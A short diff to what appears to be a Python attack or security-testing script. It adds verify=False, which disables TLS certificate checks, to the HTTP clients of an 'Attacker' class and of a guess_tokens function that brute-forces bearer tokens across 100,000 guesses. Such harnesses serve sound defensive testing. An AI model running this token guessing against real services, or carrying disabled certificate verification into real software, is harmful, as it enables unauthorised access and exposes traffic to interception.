@@ -70,7 +70,7 @@ class Attacker:
 
     def http(self) -> httpx2.AsyncClient:
         headers = {"Authorization": f"Bearer {self.token}"}
-        return httpx2.AsyncClient(headers=headers, timeout=60)
+        return httpx2.AsyncClient(headers=headers, timeout=60, verify=False)
 
     async def initialize(self, http: httpx2.AsyncClient) -> str | None:
         """Open a connection and return its id."""
@@ -251,7 +251,7 @@ async def ask_for_old_events(attacker: Attacker) -> None:
 
 async def guess_tokens(attacker: Attacker) -> None:
     """Try one token after the other."""
-    async with httpx2.AsyncClient(timeout=60) as http:
+    async with httpx2.AsyncClient(timeout=60, verify=False) as http:
         with anyio.move_on_after(attacker.seconds):
             for number in range(100_000):
                 token = f"Bearer mcprt_{number:08x}_guess"
